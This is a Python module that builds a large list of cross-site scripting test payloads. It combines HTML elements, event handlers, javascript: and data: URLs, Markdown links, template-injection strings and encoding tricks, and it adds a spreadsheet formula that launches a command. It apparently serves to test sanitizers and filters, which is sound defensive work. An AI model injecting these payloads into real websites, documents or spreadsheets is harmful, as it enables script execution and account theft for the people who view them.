"""Texts meant to run as a program in somebody else's browser. Each would set `top.ran`, if it ran anywhere.

Made from parts, so that every way in (elements, handlers, addresses, half-open tags, other encodings, Markdown, words a
template or a formula would take for its own) meets every way of hiding it. The kinds are those of the OWASP cheat sheet
on evading filters and of the HTML5 Security Cheatsheet; the texts are our own.
"""

JS = "top.ran=1"

_HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onpointerenter", "onanimationstart", "onclick")
_ELEMENTS = (
    "<img src=x {h}={js}>",
    "<svg {h}={js}>",
    "<body {h}={js}>",
    "<input autofocus {h}={js}>",
    "<details open {h}={js}><summary>x</summary></details>",
    "<video><source {h}={js}></video>",
    '<iframe srcdoc="<script>{js}</script>" {h}={js}></iframe>',
    "<marquee {h}={js}>x</marquee>",
    "<style>@keyframes x{{}}</style><b style='animation-name:x' {h}={js}>x</b>",
    '"><img src=x {h}={js}>',
    "'><svg {h}={js}>",
    "x' {h}='{js}' y='",
    'x" {h}="{js}" autofocus y="',
    "<a id=x tabindex=1 {h}={js}>x</a>",
)
_SCRIPTS = (
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script/x>{js}</script>",
    "<script\n>{js}</script\n>",
    "<script src=data:,{js}></script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</style><script>{js}</script>",
    "--><script>{js}</script><!--",
    "]]><script>{js}</script>",
    "<svg><script>{js}</script></svg>",
    "<math><mtext><script>{js}</script></mtext></math>",
    "<noscript><p title='</noscript><script>{js}</script>'>",
    "<template><script>{js}</script></template>",
    "<svg><style><img src='</style><img src=x onerror={js}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    "<script>{js}",
    "<<script>{js}//<</script>",
    "\\x3cscript\\x3e{js}\\x3c/script\\x3e",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "%3Cscript%3E{js}%3C/script%3E",
    "＜script＞{js}＜/script＞",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "\ufeff<script>{js}</script>",
)
_ADDRESSES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    " javascript:{js}",
    "javascript&colon;{js}",
    "&#106;avascript:{js}",
    "\\u006aavascript:{js}",
    "vbscript:{js}",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=",
    "//x\njavascript:{js}",
    'https://x/" onmouseover="{js}',
)
_LINKS = (
    "[x]({a})",
    "[x](<{a}>)",
    "![x]({a})",
    '[x](https://x "\\" onmouseover=\\"{a}")',
    "<{a}>",
    "<a href='{a}'>x</a>",
    "<form action='{a}'><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url={a}'>",
    "<object data='{a}'></object>",
    "<base href='{a}'>",
)
_OTHERS = (
    "[x]: javascript:{js}\n\n[x]",
    "```html\n<script>{js}</script>\n```",
    "    <script>{js}</script>",
    "> <script>{js}</script>",
    "# <svg onload={js}>",
    "* <img src=x onerror={js}>",
    "`<script>{js}</script>`",
    "&lt;img src=x onerror={js}&gt;",
    "{{{{constructor.constructor('{js}')()}}}}",
    "{{% raw %}}{{{{ config }}}}{{% endraw %}}",
    "${{{js}}}",
    "#{{{js}}}",
    "<%= {js} %>",
    '=HYPERLINK("javascript:{js}")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202e<tpircs>{js}</tpircs>",
    "<img src=x:x onerror\u00a0={js}>",
    "<svg/onload={js}>",
    "<svg\fonload={js}>",
    "<img/src='x'/onerror={js}>",
    "<a href=x style='background:url(javascript:{js})'>x</a>",
    "<link rel=stylesheet href=data:text/css,*{{x:expression({js})}}>",
    "<!--[if gte IE 4]><script>{js}</script><![endif]-->",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>{js}</script></x>",
)

PAYLOADS = tuple(
    dict.fromkeys(
        [
            *(element.format(h=handler, js=JS) for element in _ELEMENTS for handler in _HANDLERS),
            *(script.format(js=JS) for script in _SCRIPTS),
            *(link.format(a=address.format(js=JS)) for link in _LINKS for address in _ADDRESSES),
            *(other.format(js=JS) for other in _OTHERS),
        ]
    )
)
AT_ONCE = 20  # payloads in one text
